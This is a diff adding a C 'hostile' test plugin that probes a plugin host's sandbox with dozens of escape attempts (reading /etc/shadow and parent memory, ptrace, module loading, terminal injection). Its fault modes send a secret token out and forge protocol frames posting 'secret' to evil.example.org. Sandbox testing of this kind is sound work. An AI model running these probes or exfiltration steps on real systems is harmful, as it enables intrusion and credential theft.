@@ -1,0 +1,440 @@
+/* A plugin that tries whatever a vendor's closed binary could try: when it is loaded, in its entry
+ * function and in create(). Each attempt gives 0 if it succeeded, else the errno that stopped it; the
+ * ticket's warnings tell all of them, "<when> <attempt> <errno>".
+ *
+ * Harmless where it succeeds: what is made is removed, children end at once, signals are number 0.
+ * Attempts ask the kernel itself, so that no library's fallback hides the answer. */
+#define _GNU_SOURCE
+#include "ticket_plugin_helpers.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/netlink.h>
+#include <netinet/in.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <termios.h>
+#include <time.h>
+#include <unistd.h>
+
+extern char **environ;
+
+static int failed(long result) { return result < 0 ? errno : 0; }
+
+/* Of a descriptor that would be one. */
+static int opened(long file) {
+   if (file < 0) return errno;
+   close((int)file);
+   return 0;
+}
+
+/* ---- Network ---- */
+
+static int reach(int family, int kind, int protocol, const void *address, socklen_t size, int bound) {
+   const int s = socket(family, kind, protocol);
+   if (s < 0) return errno;
+   const int result = failed(bound ? bind(s, address, size) : connect(s, address, size));
+   close(s);
+   return result;
+}
+
+static const struct sockaddr_in discard = {.sin_family = AF_INET, .sin_port = 0x0900, .sin_addr = {0x0100007f}};
+static const struct sockaddr_in any_port = {.sin_family = AF_INET, .sin_addr = {0x0100007f}};
+static const struct sockaddr_in6 discard6 = {.sin6_family = AF_INET6, .sin6_port = 0x0900, .sin6_addr = IN6ADDR_LOOPBACK_INIT};
+
+static int tcp_connect(void) { return reach(AF_INET, SOCK_STREAM, 0, &discard, sizeof discard, 0); }
+static int tcp6_connect(void) { return reach(AF_INET6, SOCK_STREAM, 0, &discard6, sizeof discard6, 0); }
+static int tcp_bind(void) { return reach(AF_INET, SOCK_STREAM, 0, &any_port, sizeof any_port, 1); }
+static int udp_connect(void) { return reach(AF_INET, SOCK_DGRAM, 0, &discard, sizeof discard, 0); }
+static int udp_bind(void) { return reach(AF_INET, SOCK_DGRAM, 0, &any_port, sizeof any_port, 1); }
+static int raw_socket(void) { return opened(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)); }
+static int packet_socket(void) { return opened(socket(AF_PACKET, SOCK_RAW, 0)); }
+static int netlink_socket(void) { return opened(socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE)); }
+static int vsock_socket(void) { return opened(socket(AF_VSOCK, SOCK_STREAM, 0)); }
+static int unix_connect(void) {
+   const struct sockaddr_un bus = {AF_UNIX, "/run/dbus/system_bus_socket"};
+   return reach(AF_UNIX, SOCK_STREAM, 0, &bus, sizeof bus, 0);
+}
+static int unix_abstract(void) {
+   const struct sockaddr_un name = {AF_UNIX, "\0ticket-host-nobody"};
+   return reach(AF_UNIX, SOCK_STREAM, 0, &name, sizeof name, 0);
+}
+static int socket_pair(void) {
+   int ends[2];
+   if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0) return errno;
+   close(ends[0]);
+   close(ends[1]);
+   return 0;
+}
+static int io_uring(void) {
+   uint8_t parameters[120] = {0};
+   return opened(syscall(SYS_io_uring_setup, 1, parameters));
+}
+
+/* ---- Files ---- */
+
+static int readable(const char *path) { return opened(open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK)); }
+static int of_parent(const char *what) {
+   char path[64];
+   snprintf(path, sizeof path, "/proc/%d/%s", (int)getppid(), what);
+   return readable(path);
+}
+
+static int read_passwd(void) { return readable("/etc/passwd"); }
+static int read_shadow(void) { return readable("/etc/shadow"); }
+static int list_root(void) { return opened(open("/", O_RDONLY | O_DIRECTORY)); }
+static int list_home(void) { return opened(open("/root", O_RDONLY | O_DIRECTORY)); }
+static int list_processes(void) { return opened(open("/proc", O_RDONLY | O_DIRECTORY)); }
+static int list_here(void) { return opened(open(".", O_RDONLY | O_DIRECTORY)); }
+static int read_parent_environ(void) { return of_parent("environ"); }
+static int read_parent_cmdline(void) { return of_parent("cmdline"); }
+static int read_parent_memory(void) { return of_parent("mem"); }
+static int read_parent_descriptor(void) { return of_parent("fd/0"); }
+static int read_parent_maps(void) { return of_parent("maps"); }
+static int read_own_environ(void) {
+   char byte;
+   const int file = open("/proc/self/environ", O_RDONLY);
+   if (file < 0) return errno;
+   const ssize_t got = read(file, &byte, 1);
+   close(file);
+   return got > 0 ? 0 : ENODATA;
+}
+static int see_environment(void) { return environ != NULL && environ[0] != NULL ? 0 : ENODATA; }
+
+static int made(const char *path) {
+   const int result = opened(open(path, O_WRONLY | O_CREAT | O_EXCL, 0600));
+   if (result == 0) unlink(path);
+   return result;
+}
+static int write_tmp(void) { return made("/tmp/ticket-host-hostile"); }
+static int write_var_tmp(void) { return made("/var/tmp/ticket-host-hostile"); }
+static int write_shared_memory(void) { return made("/dev/shm/ticket-host-hostile"); }
+static int write_here(void) { return made("ticket-host-hostile"); }
+static int make_directory(void) {
+   const int result = failed(mkdir("/tmp/ticket-host-hostile-d", 0700));
+   if (result == 0) rmdir("/tmp/ticket-host-hostile-d");
+   return result;
+}
+static int make_link(void) {
+   const int result = failed(symlink("/etc/passwd", "/tmp/ticket-host-hostile-l"));
+   if (result == 0) unlink("/tmp/ticket-host-hostile-l");
+   return result;
+}
+static int make_pipe(void) {
+   const int result = failed(mkfifo("/tmp/ticket-host-hostile-p", 0600));
+   if (result == 0) unlink("/tmp/ticket-host-hostile-p");
+   return result;
+}
+/* To what it is already, or of what isn't there: nothing changes. */
+static int change_mode(void) { return failed(syscall(SYS_fchmodat, AT_FDCWD, "/tmp", 01777)); }
+static int change_owner(void) { return failed(syscall(SYS_fchownat, AT_FDCWD, "/tmp", -1, -1, 0)); }
+static int change_time(void) {
+   const struct timespec as_it_is[2] = {{0, UTIME_OMIT}, {0, UTIME_OMIT}};
+   return failed(syscall(SYS_utimensat, AT_FDCWD, "/tmp", as_it_is, 0));
+}
+static int truncate_file(void) { return failed(syscall(SYS_truncate, "/dev/null/none", 0)); }
+static int memory_file(void) { return opened(syscall(SYS_memfd_create, "x", 0)); }
+static int open_by_handle(void) {
+   uint32_t handle[8] = {0};
+   return opened(syscall(SYS_open_by_handle_at, AT_FDCWD, handle, 0));
+}
+static int watch_files(void) { return opened(syscall(SYS_inotify_init1, 0)); }
+static int watch_all_files(void) { return opened(syscall(SYS_fanotify_init, 0, 0)); }
+
+/* ---- Programs and processes ---- */
+
+static int ended(long child) {
+   if (child == 0) _exit(0);
+   if (child < 0) return errno;
+   waitpid((pid_t)child, NULL, 0);
+   return 0;
+}
+static int fork_child(void) {
+#ifdef SYS_fork
+   return ended(syscall(SYS_fork));
+#else
+   return ended(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0));
+#endif
+}
+static int clone_child(void) { return ended(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0)); }
+static int clone3_child(void) {
+   uint64_t arguments[8] = {0, 0, 0, 0, SIGCHLD};
+   return ended(syscall(SYS_clone3, arguments, sizeof arguments));
+}
+static int clone_namespace(void) { return ended(syscall(SYS_clone, SIGCHLD | CLONE_NEWUSER, 0, 0, 0, 0)); }
+/* With arguments that no program can have: it is asked whether it may, and doesn't become one. */
+static int exec_program(void) {
+   char *const nowhere = (char *)8;
+   return failed(syscall(SYS_execve, "/bin/true", nowhere, nowhere));
+}
+static int exec_memory(void) { return failed(syscall(SYS_execveat, -1, "", (void *)8, (void *)8, AT_EMPTY_PATH)); }
+static int trace_parent(void) {
+   const int result = failed(syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, getppid(), 0, 0));
+   if (result == 0) syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, getppid(), 0, 0);
+   return result;
+}
+static int copy_parent_memory(void) {
+   char byte;
+   const struct iovec here = {&byte, 1}, there = {(void *)&discard, 1};
+   return failed(syscall(SYS_process_vm_readv, getppid(), &here, 1, &there, 1, 0));
+}
+static int write_parent_memory(void) {
+   char byte = 0;
+   const struct iovec here = {&byte, 1}, there = {(void *)8, 1};
+   return failed(syscall(SYS_process_vm_writev, getppid(), &here, 1, &there, 1, 0));
+}
+static int open_parent(void) { return opened(syscall(SYS_pidfd_open, getppid(), 0)); }
+static int take_descriptor(void) { return opened(syscall(SYS_pidfd_getfd, -1, 0, 0)); }
+static int signal_parent(void) { return failed(kill(getppid(), 0)); }
+static int signal_group(void) { return failed(kill(0, 0)); }
+static int signal_everybody(void) { return failed(kill(-1, 0)); }
+static int signal_thread(void) { return failed(syscall(SYS_tgkill, getppid(), getppid(), 0)); }
+static int queue_signal(void) { return failed(sigqueue(getppid(), 0, (union sigval){0})); }
+static int slow_parent(void) { return failed(setpriority(PRIO_PROCESS, (id_t)getppid(), 0)); }
+static int limit_parent(void) {
+   struct rlimit now;
+   return failed(prlimit(getppid(), RLIMIT_NOFILE, NULL, &now));
+}
+static int pin_parent(void) {
+   cpu_set_t all;
+   memset(&all, 0xff, sizeof all);
+   return failed(sched_setaffinity(getppid(), sizeof all, &all));
+}
+static int new_session(void) { return failed(syscall(SYS_setpgid, getpid(), getpgrp())); }
+
+/* ---- Privileges and the kernel ---- */
+
+static int raise_memory_limit(void) {
+   const struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
+   return failed(setrlimit(RLIMIT_AS, &all));
+}
+static int raise_file_limit(void) {
+   const struct rlimit more = {1 << 16, 1 << 16};
+   return failed(setrlimit(RLIMIT_NOFILE, &more));
+}
+static int be_dumpable(void) { return failed(prctl(PR_SET_DUMPABLE, 1)); }
+static int outlive_host(void) { return failed(prctl(PR_SET_PDEATHSIG, 0)); }
+static int be_traced(void) { return failed(prctl(PR_SET_PTRACER, -1)); }
+static int gain_privileges(void) { return prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0 ? 0 : ENODATA; }
+static int dump_core(void) {
+   struct rlimit core;
+   getrlimit(RLIMIT_CORE, &core);
+   return core.rlim_max > 0 ? 0 : ENODATA;
+}
+static int set_user(void) { return failed(syscall(SYS_setuid, getuid())); }
+static int new_user_space(void) { return failed(syscall(SYS_unshare, 0)); }
+static int join_namespace(void) { return failed(syscall(SYS_setns, -1, 0)); }
+static int mount_files(void) { return failed(syscall(SYS_mount, "none", "/nowhere", "tmpfs", 0, "")); }
+static int change_root(void) { return failed(chroot("/nowhere")); }
+static int load_program(void) { return opened(syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, NULL, 0)); }
+static int count_events(void) { return opened(syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0)); }
+static int handle_faults(void) { return opened(syscall(SYS_userfaultfd, 0)); }
+static int read_keys(void) { return failed(syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0)); }
+static int add_key(void) { return failed(syscall(SYS_add_key, "user", "", "", 0, -3)); }
+static int load_module(void) { return failed(syscall(SYS_finit_module, -1, "", 0)); }
+static int read_kernel_log(void) { return failed(syscall(SYS_syslog, 10 /* SIZE_BUFFER */, NULL, 0)); }
+static int set_clock(void) { return failed(syscall(SYS_clock_settime, CLOCK_REALTIME, NULL)); }
+static int other_personality(void) { return failed(syscall(SYS_personality, 0xffffffff)); }
+static int shared_memory(void) { return failed(syscall(SYS_shmget, 0x7fffffff, 1, 0)); }
+static int message_queue(void) { return failed(syscall(SYS_msgget, 0x7fffffff, 0)); }
+static int semaphores(void) { return failed(syscall(SYS_semget, 0x7fffffff, 1, 0)); }
+static int type_into_terminal(void) { return failed(ioctl(2, TIOCSTI, "x")); }
+static int size_of_queue(void) {
+   int bytes;
+   return failed(ioctl(0, FIONREAD, &bytes));
+}
+
+/* ---- Resources ---- */
+
+static int take_memory(void) {
+   const size_t much = (size_t)100 << 30;
+   void *got = mmap(NULL, much, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+   if (got == MAP_FAILED) return errno;
+   munmap(got, much);
+   return 0;
+}
+static int take_descriptors(void) {
+   int files[4096], count = 0, result = 0;
+   for (; count < 4096; count++)
+      if ((files[count] = dup(2)) < 0) { result = errno; break; }
+   while (count > 0) close(files[--count]);
+   return result;
+}
+
+/* What is allowed, so that the table can tell the difference. */
+static void *nothing(void *argument) { return argument; }
+static int allowed_thread(void) {
+   pthread_t thread;
+   const int result = pthread_create(&thread, NULL, nothing, NULL);
+   if (result == 0) pthread_join(thread, NULL);
+   return result;
+}
+static int allowed_random(void) { return readable("/dev/urandom"); }
+static int allowed_library(void) { return readable("/etc/ld.so.cache"); }
+
+#define ATTEMPT(name) {#name, name}
+static const struct { const char *name; int (*attempt)(void); } attempts[] = {
+   ATTEMPT(tcp_connect), ATTEMPT(tcp6_connect), ATTEMPT(tcp_bind), ATTEMPT(udp_connect), ATTEMPT(udp_bind),
+   ATTEMPT(raw_socket), ATTEMPT(packet_socket), ATTEMPT(netlink_socket), ATTEMPT(vsock_socket),
+   ATTEMPT(unix_connect), ATTEMPT(unix_abstract), ATTEMPT(socket_pair), ATTEMPT(io_uring),
+   ATTEMPT(read_passwd), ATTEMPT(read_shadow), ATTEMPT(list_root), ATTEMPT(list_home), ATTEMPT(list_processes),
+   ATTEMPT(list_here), ATTEMPT(read_parent_environ), ATTEMPT(read_parent_cmdline), ATTEMPT(read_parent_memory),
+   ATTEMPT(read_parent_descriptor), ATTEMPT(read_parent_maps), ATTEMPT(read_own_environ), ATTEMPT(see_environment),
+   ATTEMPT(write_tmp), ATTEMPT(write_var_tmp), ATTEMPT(write_shared_memory), ATTEMPT(write_here),
+   ATTEMPT(make_directory), ATTEMPT(make_link), ATTEMPT(make_pipe), ATTEMPT(change_mode), ATTEMPT(change_owner),
+   ATTEMPT(change_time), ATTEMPT(truncate_file), ATTEMPT(memory_file), ATTEMPT(open_by_handle),
+   ATTEMPT(watch_files), ATTEMPT(watch_all_files),
+   ATTEMPT(fork_child), ATTEMPT(clone_child), ATTEMPT(clone3_child), ATTEMPT(clone_namespace),
+   ATTEMPT(exec_program), ATTEMPT(exec_memory), ATTEMPT(trace_parent), ATTEMPT(copy_parent_memory),
+   ATTEMPT(write_parent_memory), ATTEMPT(open_parent), ATTEMPT(take_descriptor), ATTEMPT(signal_parent),
+   ATTEMPT(signal_group), ATTEMPT(signal_everybody), ATTEMPT(signal_thread), ATTEMPT(queue_signal),
+   ATTEMPT(slow_parent), ATTEMPT(limit_parent), ATTEMPT(pin_parent), ATTEMPT(new_session),
+   ATTEMPT(raise_memory_limit), ATTEMPT(raise_file_limit), ATTEMPT(be_dumpable), ATTEMPT(outlive_host),
+   ATTEMPT(be_traced), ATTEMPT(gain_privileges), ATTEMPT(dump_core), ATTEMPT(set_user), ATTEMPT(new_user_space),
+   ATTEMPT(join_namespace), ATTEMPT(mount_files), ATTEMPT(change_root), ATTEMPT(load_program),
+   ATTEMPT(count_events), ATTEMPT(handle_faults), ATTEMPT(read_keys), ATTEMPT(add_key), ATTEMPT(load_module),
+   ATTEMPT(read_kernel_log), ATTEMPT(set_clock), ATTEMPT(other_personality), ATTEMPT(shared_memory),
+   ATTEMPT(message_queue), ATTEMPT(semaphores), ATTEMPT(type_into_terminal), ATTEMPT(size_of_queue),
+   ATTEMPT(take_memory), ATTEMPT(take_descriptors),
+   ATTEMPT(allowed_thread), ATTEMPT(allowed_random), ATTEMPT(allowed_library),
+};
+enum { ATTEMPTS = sizeof attempts / sizeof attempts[0] };
+
+static int constructor_results[ATTEMPTS], entry_results[ATTEMPTS];
+
+static void try_all(int *results) {
+   for (int i = 0; i < ATTEMPTS; i++) {
+      errno = 0;
+      results[i] = attempts[i].attempt();
+   }
+}
+
+__attribute__((constructor)) static void constructor(void) { try_all(constructor_results); }
+
+/* ---- The plugin ---- */
+
+typedef struct hostile { ticket_text endpoint, fault, argument, token; } hostile;
+
+static int32_t open_backend(const ticket_call *call, ticket_str settings, void **instance) {
+   hostile *self = calloc(1, sizeof *self);
+   if (self == NULL) return ticket_fail(call, TICKET_PLUGIN_ERROR, "later", "out of memory", ticket_of(""));
+   const ticket_str information = ticket_member(settings, "information");
+   ticket_put_unescaped(&self->endpoint, ticket_member(settings, "endpoint"));
+   ticket_put_unescaped(&self->fault, ticket_member(information, "fault"));
+   ticket_put_unescaped(&self->argument, ticket_member(information, "argument"));
+   ticket_put_unescaped(&self->token, ticket_member(ticket_member(settings, "secret"), "token"));
+   return *instance = self, TICKET_OK;
+}
+
+static int32_t check(void *instance, const ticket_call *call) {
+   (void)instance;
+   return ticket_reply(call, TICKET_OK, "{\"checks\": []}", "", ticket_of(""), "");
+}
+
+static int32_t find(void *instance, const ticket_call *call, ticket_str request) {
+   (void)instance, (void)call, (void)request;
+   return TICKET_NOT_FOUND;
+}
+
+/* Writes to each pipe that it finds, as if it were the worker itself. */
+static void write_to_pipes(const void *bytes, size_t count) {
+   for (int file = 3; file < 64; file++) {
+      struct stat about;
+      if (fstat(file, &about) == 0 && S_ISFIFO(about.st_mode) && (fcntl(file, F_GETFL) & O_ACCMODE) == O_WRONLY)
+         if (write(file, bytes, count) < 0) return;
+   }
+}
+
+static void forge(const char *head, const char *body) {
+   char frame[512];
+   const uint32_t lengths[2] = {(uint32_t)strlen(head), (uint32_t)strlen(body)};
+   memcpy(frame, lengths, 8);
+   memcpy(frame + 8, head, lengths[0]);
+   memcpy(frame + 8 + lengths[0], body, lengths[1]);
+   write_to_pipes(frame, 8 + lengths[0] + lengths[1]);
+}
+
+static void *go_on(void *nothing_more) {
+   (void)nothing_more;
+   for (;;) {
+      forge("{\"Log\": {\"level\": 1}}", "written after the call");
+      nanosleep(&(struct timespec){0, 1000000}, NULL);
+   }
+   return NULL;
+}
+
+static int is(const ticket_text *text, const char *name) {
+   return text->len == strlen(name) && memcmp(text->bytes, name, text->len) == 0;
+}
+
+static int32_t create(void *instance, const ticket_call *call, ticket_str request) {
+   hostile *self = instance;
+   (void)request;
+   if (is(&self->fault, "http")) {
+      /* The secret goes along. */
+      const ticket_exchange done = ticket_http(call, "GET", ticket_view(&self->argument), ticket_view(&self->token), ticket_of(""));
+      if (done.sent == TICKET_HTTP_DENIED) return ticket_fail(call, TICKET_SETTINGS_ERROR, "never", "denied: ", done.why);
+      return ticket_fail(call, TICKET_PLUGIN_ERROR, "never", "it went out: ", done.why);
+   }
+   if (is(&self->fault, "read")) {
+      char path[256];
+      snprintf(path, sizeof path, "%.*s", (int)self->argument.len, (const char *)self->argument.bytes);
+      const int result = readable(path);
+      return ticket_fail(call, TICKET_CREATION_ERROR, "never", "read: ", ticket_of(result == 0 ? "OK" : strerrorname_np(result)));
+   }
+   if (is(&self->fault, "variable")) {
+      char name[64];
+      snprintf(name, sizeof name, "%.*s", (int)self->argument.len, (const char *)self->argument.bytes);
+      const char *value = getenv(name);
+      return ticket_fail(call, TICKET_CREATION_ERROR, "never", "variable: ", ticket_of(value != NULL ? value : "absent"));
+   }
+   if (is(&self->fault, "thread")) {
+      pthread_t thread;
+      pthread_create(&thread, NULL, go_on, NULL);
+   }
+   if (is(&self->fault, "forge")) {
+      forge("{\"Http\": {\"method\": \"POST\", \"url\": \"https://evil.example.org/\", \"headers\": []}}", "secret");
+      forge("{\"Returned\": {\"status\": 0, \"replied\": true, \"bad\": null}}", "{\"url\": \"https://forged.example.org/\"}");
+   }
+   if (is(&self->fault, "nonsense")) write_to_pipes("nonsense nonsense nonsense", 26);
+   if (!is(&self->fault, "all")) return ticket_reply(call, TICKET_OK, "{\"url\": \"https://tickets.example.org/1\"}", "", ticket_of(""), "");
+   int results[ATTEMPTS];
+   try_all(results);
+   static const char *const whens[] = {"constructor", "entry", "create"};
+   const int *const all[] = {constructor_results, entry_results, results};
+   static char json[64 * 1024];
+   size_t end = (size_t)sprintf(json, "{\"url\": \"https://tickets.example.org/1\", \"warnings\": [");
+   for (int when = 0; when < 3; when++)
+      for (int i = 0; i < ATTEMPTS; i++) {
+         const int result = all[when][i];
+         end += (size_t)sprintf(json + end, "%s\"%s %s %s\"", when + i > 0 ? ", " : "", whens[when], attempts[i].name,
+                                result == 0 ? "OK" : strerrorname_np(result));
+      }
+   sprintf(json + end, "]}");
+   call->reply(call, ticket_of(json));
+   return TICKET_OK;
+}
+
+static const char manifest[] = "{\"name\": \"hostile\", \"version\": \"1\"}";
+
+static const ticket_plugin table = {
+   sizeof table, TICKET_PLUGIN_ABI_VERSION, {(const uint8_t *)manifest, sizeof manifest - 1},
+   open_backend, free, check, create, find,
+};
+
+const ticket_plugin *ticket_plugin_entry(uint32_t host_abi_version) {
+   (void)host_abi_version;
+   try_all(entry_results);
+   return &table;
+}
